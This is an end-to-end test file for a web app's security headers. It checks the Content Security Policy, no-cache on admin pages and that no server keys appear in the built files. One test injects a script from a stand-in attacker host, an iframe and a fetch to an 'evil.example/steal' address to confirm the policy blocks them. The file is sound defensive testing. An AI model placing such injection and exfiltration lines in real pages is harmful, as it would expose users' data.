// Spec 9.13.

import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { LOCAL_RESEND_KEY } from "../supabase/local/inbox/resend-api.ts";
import { JWT_SECRET, SECRET_KEY } from "../supabase/local/keys.ts";
import { expect, test } from "./support/test.ts";

// spec 9.22
test("X2: the built site sends the policy, and nothing weaker than it", async ({ request }) => {
  const { "content-security-policy": policy = "", ...headers } = (await request.get("/")).headers();
  for (const directive of [
    "default-src 'none'",
    "object-src 'none'",
    "base-uri 'none'",
    "frame-ancestors 'none'",
  ]) {
    expect(policy).toContain(directive);
  }
  // One script in every page, with different addresses per language, and that of the search page.
  expect(policy).toMatch(/script-src 'self'(?: 'sha256-[^']+'){3} https:\/\/js\.stripe\.com;/);
  expect(policy).not.toContain("unsafe-eval");
  const api = process.env.AURUM_E2E_API_URL ?? "";
  const sources = (directive: string) => new RegExp(`(?:^|; )${directive} ([^;]+)`).exec(policy)?.[1];
  expect(sources("connect-src")).toBe(`'self' ${api} ${api.replace("http", "ws")} https://api.stripe.com`);
  expect(sources("frame-src")).toBe(
    "https://js.stripe.com https://hooks.stripe.com https://checkout.stripe.com",
  );
  expect(sources("font-src")).toBe("'self'");
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
  expect(headers["strict-transport-security"]).toContain("max-age=");
});

for (const path of ["/admin", "/admin/prompts", "/dashboard", "/dashboard/subscription"]) {
  // spec 9.23
  test(`X2: ${path} is sent with no-cache headers`, async ({ request }) => {
    expect((await request.get(path)).headers()["cache-control"]).toContain("no-cache");
  });
}

test.describe("an injection", () => {
  test.use({ expectedConsoleErrors: /Content Security Policy|violates the following/ });

  test("X2: inline scripts, foreign scripts, frames and calls are blocked", async ({ page }) => {
    await page.goto("/pricing");
    await page.evaluate(() => {
      const seen: string[] = [];
      Object.assign(window, { seen });
      document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
      const inline = document.createElement("script");
      inline.textContent = "window.injected = true";
      const foreign = document.createElement("script");
      foreign.src = "https://evil.example/x.js";
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      document.body.append(inline, foreign, frame);
      void fetch("https://evil.example/steal").catch(() => undefined);
      // A string for a timer is evaluated as script; code that the test itself evaluates would be allowed.
      setTimeout("window.injected = true");
    });
    const seen = () =>
      page.evaluate(() => [...new Set((window as unknown as { seen: string[] }).seen)].sort());
    await expect.poll(seen).toEqual(["connect-src", "frame-src", "script-src", "script-src-elem"]);
    expect(await page.evaluate(() => "injected" in window)).toBe(false);
  });
});

test("E7: no file of the built site contains a server key", () => {
  const folder = process.env.AURUM_E2E_BUILD_DIR ?? "";
  const files = readdirSync(folder, { recursive: true, encoding: "utf8" })
    .map((name) => join(folder, name))
    .filter((path) => statSync(path).isFile() && !path.endsWith(".br"));
  const secrets = [SECRET_KEY, "sb_secret", "service_role", JWT_SECRET, LOCAL_RESEND_KEY, "postgresql://"];
  // The official client knows how such a key begins; no key is this short.
  const texts = files.map((path) => readFileSync(path, "utf8").replaceAll(/sb_secret_(?!\w)/g, ""));
  expect(texts.some((text) => text.includes("sb_publishable_local"))).toBe(true);
  for (const secret of secrets) {
    expect(files.filter((_, at) => texts[at]?.includes(secret))).toEqual([]);
  }
});
